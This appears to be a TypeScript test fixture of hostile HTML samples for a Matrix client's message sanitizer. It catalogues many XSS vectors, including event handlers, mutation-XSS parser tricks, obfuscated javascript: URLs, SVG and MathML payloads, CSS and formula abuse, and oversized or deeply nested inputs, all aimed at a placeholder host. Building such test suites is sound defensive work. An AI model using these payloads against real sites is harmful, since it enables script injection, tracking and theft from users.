/** HTML that tries to run code, to call a server, or to break its reader. */
export interface HostileSample {
  name: string
  html: string
}

/** The window variable that is set if any of it runs. */
export const hostileMarker = 'mxHostile'
/** The host that all of it calls, and nothing else does. */
export const hostileHost = 'hostile.invalid'

const run = `${hostileMarker}=1`
const away = `https://${hostileHost}`

const scripts = {
  script: `<script>${run}</script>`,
  'script from elsewhere': `<script src="${away}/x.js"></script>`,
  'script in a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'script with a slash': `<script/x>${run}</script>`,
  'script after a title': `<title></title><script>${run}</script>`,
  'unclosed script': `<script>${run}`,
  'module script': `<script type="module">globalThis.${run}</script>`,
  'img onerror': `<img src=x onerror="${run}">`,
  'img onerror without a space': `<img/src=x/onerror=${run}>`,
  'handler after a quote': `<b title=""onclick="${run}"style="top:0">x</b>`,
  'img onerror in capitals': `<IMG SRC=x OnErRoR="${run}">`,
  'img onerror on an mxc picture': `<img src="mxc://a/b" onerror="${run}">`,
  'quotes in an attribute': `<img alt="><img src=x onerror=${run}>" src="mxc://a/b">`,
  'body onload': `<body onload="${run}">`,
  'details ontoggle': `<details open ontoggle="${run}"><summary>s</summary>t</details>`,
  'input autofocus': `<input autofocus onfocus="${run}">`,
  'select autofocus': `<select autofocus onfocus="${run}"><option>x</select>`,
  'tabindex onfocus': `<p tabindex=0 autofocus id=x onfocus="${run}">x</p>`,
  'video onerror': `<video><source onerror="${run}"></video>`,
  'audio source': `<audio src="${away}/x.ogg" autoplay onerror="${run}"></audio>`,
  'marquee onstart': `<marquee onstart="${run}">x</marquee>`,
  'animation events': `<b style="animation:x 1s" onanimationstart="${run}">x</b>`,
  iframe: `<iframe src="javascript:parent.${run}"></iframe>`,
  'iframe srcdoc': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  object: `<object data="javascript:${run}"></object>`,
  embed: `<embed src="javascript:${run}">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${away}/">`,
  'meta policy': `<meta http-equiv="Content-Security-Policy" content="default-src x; report-uri ${away}/">`,
  base: `<base href="${away}/"><a href="x">x</a>`,
  link: `<link rel="stylesheet" href="${away}/x.css"><link rel="prefetch" href="${away}/x">`,
  form: `<form action="javascript:${run}"><button formaction="javascript:${run}">x</button></form>`,
  'custom element': `<x-x is="x-y" onclick="${run}">x</x-x>`,
  'DOM clobbering': `<form id="attributes"><input name="nodeName"><input name="parentNode"><img name="childNodes" src=x onerror="${run}"></form>`,
  'shadow root': `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
}

const foreign = {
  'svg onload': `<svg onload="${run}"></svg>`,
  'svg script': `<svg><script>${run}</script></svg>`,
  'svg script by address': `<svg><script href="data:text/javascript,${run}" /></svg>`,
  'svg link': `<svg><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg>`,
  'svg animate': `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a></svg>`,
  'svg set': `<svg><set onbegin="${run}" attributeName="x"/></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  'svg image': `<svg><image href="${away}/x.png" onerror="${run}"/></svg>`,
  'svg foreignObject': `<svg><foreignObject><body onload="${run}"><img src=x onerror="${run}"></foreignObject></svg>`,
  'svg style': `<svg><style>@import url(${away}/x.css)</style></svg>`,
  'math link': `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  'math href': `<math href="javascript:${run}">x</math>`,
  'math annotation': `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
}

/** Markup that turns into other markup when written and read again. */
const mutations = {
  'noscript and title': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'math, table, mglyph, style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'form in math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'svg, p, style': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'svg title style': `<svg><title><style><img src="</style><img src=x onerror=${run}>"></title></svg>`,
  'svg desc and a list': `<svg><desc><li><table><style><a title="</style><img src=x onerror=${run}>">`,
  'math and textarea': `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
  'style in a select': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  'comment with an end': `<!--><img src=x onerror=${run}>-->`,
  'comment with a bang': `<!--x--!><img src=x onerror=${run}>`,
  'comment in an attribute': `<b title="<!--"></b><img alt="--><img src=x onerror=${run}>">`,
  cdata: `<![CDATA[<img src=x onerror=${run}>]]>`,
  'cdata in svg': `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${run}>"></svg>`,
  'processing instruction': `<?xml version="1.0"?><?x <img src=x onerror=${run}> ?>`,
  xmp: `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  noembed: `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
  noframes: `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
  textarea: `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  plaintext: `<plaintext><img src=x onerror=${run}>`,
  template: `<template><p title="</template><img src=x onerror=${run}>"></template>`,
  'template in a template': `<template><template><img src=x onerror=${run}></template></template>`,
  'mx-reply': `<mx-reply><p title="</mx-reply><img src=x onerror=${run}>"></p></mx-reply>`,
  'table that gives up its content': `<table><a href="javascript:${run}"><img src=x onerror=${run}><tr><td>x`,
  'frameset for a body': `<frameset onload="${run}"><frame src="javascript:${run}">`,
  'references to markup': `&lt;img src=x onerror=${run}&gt;`,
  'references twice over': `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  'NUL characters': `<scr\0ipt>${run}</scr\0ipt><img src=x \0onerror=${run}>`,
  'UTF-7': `+ADw-script+AD4-${run}+ADw-/script+AD4-<meta charset="utf-7">`,
  'obsolete tag names': `<image src=x onerror=${run}><isindex onfocus=${run}>`,
}

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&#x0A;script:${run}`,
  `&#106;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58${run}`,
  `javascript://%0a${run}`,
  `//javascript:${run}`,
  `https:javascript:${run}`,
  `mailto:javascript:${run}`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `vbscript:${run}`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  'data:text/html;base64,PHNjcmlwdD5teEhvc3RpbGU9MTwvc2NyaXB0Pg==',
  'blob:https://example.org/x',
  'filesystem:https://example.org/x',
  `ｊavascript:${run}`,
  `java\u00ADscript:${run}`,
  `\u202Ejavascript:${run}`,
]

const styles = {
  'style element': `<style>*{background:url(${away}/x.png)}</style>`,
  'style import': `<style>@import '${away}/x.css';</style>`,
  'style attribute': `<p style="background:url(${away}/x.png)">x</p>`,
  'style on a span': `<span style="color:red;background:url(${away}/x.png)">x</span>`,
  'style with a script': `<span style="width:expression(${run});behavior:url(${away}/x.htc)">x</span>`,
  'colour with more in it': `<span data-mx-color="red;background:url(${away}/x.png)">x</span>`,
  'box over all': '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  'table background': `<table background="${away}/x.png"><td background="${away}/y.png">x</table>`,
}

const loads = {
  'picture from elsewhere': `<img src="${away}/x.png"><img src="//${hostileHost}/x.png">`,
  srcset: `<img src="mxc://a/b" srcset="${away}/x.png 2x"><picture><source srcset="${away}/y.png"></picture>`,
  'mxc with another address in it': `<img src="mxc://${hostileHost}/../../x"><img src="mxc://${hostileHost}@a/x?y#z">`,
  'picture beside the page': '<img src="x.png"><img src="/x.png">',
  poster: `<video poster="${away}/x.png" src="${away}/x.mp4"></video>`,
  ping: `<a href="https://example.org/" ping="${away}/">x</a>`,
  'link that opens its opener': `<a href="${away}/" target="_top" rel="opener">x</a>`,
  portal: `<portal src="${away}/"></portal><fencedframe src="${away}/"></fencedframe>`,
}

const formulas = {
  'formula with links': `<span data-mx-maths="\\href{javascript:${run}}{x}\\url{${away}/}">x</span>`,
  'formula with a picture': `<span data-mx-maths="\\includegraphics{${away}/x.png}">x</span>`,
  'formula with HTML of its own': `<div data-mx-maths="\\htmlStyle{position:fixed;background:url(${away}/x.png)}{x}\\htmlData{x=y}{z}\\htmlId{root}{x}">x</div>`,
  'formula with markup': `<div data-mx-maths="\\text{<img src=x onerror=${run}>}">x</div>`,
  'formula that grows': '<div data-mx-maths="\\def\\a{\\a\\a}\\a">x</div>',
  'formula that covers the page': '<div data-mx-maths="\\rule{9999em}{9999em}">x</div>',
  'formula of only braces': `<div data-mx-maths="${'{'.repeat(2_000)}">x</div>`,
}

/** Samples of a size that a person might paste. */
export const hostileSamples: readonly HostileSample[] = [
  ...Object.entries({ ...scripts, ...foreign, ...mutations, ...styles, ...loads }).map(
    ([name, html]) => ({ name, html }),
  ),
  ...addresses.flatMap((address) => [
    { name: `link to ${JSON.stringify(address)}`, html: `<a href="${address}">x</a>` },
    { name: `picture at ${JSON.stringify(address)}`, html: `<img src="${address}">` },
  ]),
]

/** Formulas: allowed HTML whose LaTeX tries to do more than draw. */
export const hostileFormulas: readonly HostileSample[] = Object.entries(formulas).map(
  ([name, html]) => ({ name, html }),
)

/** Samples of a megabyte, created anew with each call. */
export function largeSamples(): HostileSample[] {
  const numbers = Array.from({ length: 10_000 }, (_, index) => index)
  const million = 'a'.repeat(1_000_000)
  return Object.entries({
    'attribute of 1 MB': `<b title="${million}">x</b>`,
    'style of 1 MB': `<span style="${'color:red;'.repeat(100_000)}">x</span>`,
    'class of 1 MB': `<code class="${'a b'.repeat(333_333)}">x</code>`,
    'refused link of 1 MB': `<a href="javascript:${' '.repeat(1_000_000)}${run}">x</a>`,
    'refused picture of 1 MB': `<img src="mxc://a/${million}!">`,
    'colour of 1 MB': `<span data-mx-color="rgb(${' '.repeat(1_000_000)}1">x</span>`,
    '10,000 attributes': `<b ${numbers.map((n) => `a${n}="${n}"`).join(' ')}>x</b>`,
    '10,000 refused elements': numbers.map((n) => `<x${n}></x${n}>`).join(''),
    '10,000 comments': '<!-- x -->'.repeat(10_000),
    '1 MB of white space': `a${' '.repeat(1_000_000)}b`,
    '200 KB of brackets': '<<'.repeat(100_000),
  }).map(([name, html]) => ({ name, html }))
}

/** Samples nested `count` deep, in each way a parser knows. */
export function deepSamples(count: number): HostileSample[] {
  const nested = (start: string, end: string, inner = 'x') =>
    start.repeat(count) + inner + end.repeat(count)
  return Object.entries({
    div: nested('<div>', '</div>'),
    b: nested('<b>', '</b>'),
    blockquote: nested('<blockquote>', '</blockquote>'),
    'unknown elements': nested('<x>', '</x>', `<img src=x onerror=${run}>`),
    'unclosed spans': nested('<span data-mx-color="#ff0000">', ''),
    'unclosed formatting': nested('<b><i>', '', '<p>x'),
    lists: nested('<ul><li>', '</li></ul>'),
    tables: nested('<table><tr><td>', '</td></tr></table>'),
    svg: nested('<svg>', '</svg>', `<script>${run}</script>`),
    templates: nested('<template>', '</template>', `<script>${run}</script>`),
  }).map(([name, html]) => ({ name: `${name}, ${count} deep`, html }))
}
